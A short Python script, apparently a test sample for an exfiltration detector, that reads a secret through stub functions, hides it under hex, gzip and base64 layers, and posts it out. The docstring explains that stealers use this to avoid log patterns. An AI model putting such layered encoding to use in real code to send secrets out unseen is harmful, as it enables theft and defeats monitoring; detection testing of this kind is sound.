#!/usr/bin/python3
"""
Trick: Sends a secret as base64 of gzip of hexadecimal digits.
Known from: stealers that pack before they send, so that no pattern shows in a log.
First: the sinkhole's record of the bytes, decoded three layers deep
Second: read-then-sent, where the value came from a file
"""

import base64
import gzip

from way_out import post, secret

post(base64.b64encode(gzip.compress(secret().hex().encode())))
print("performed")
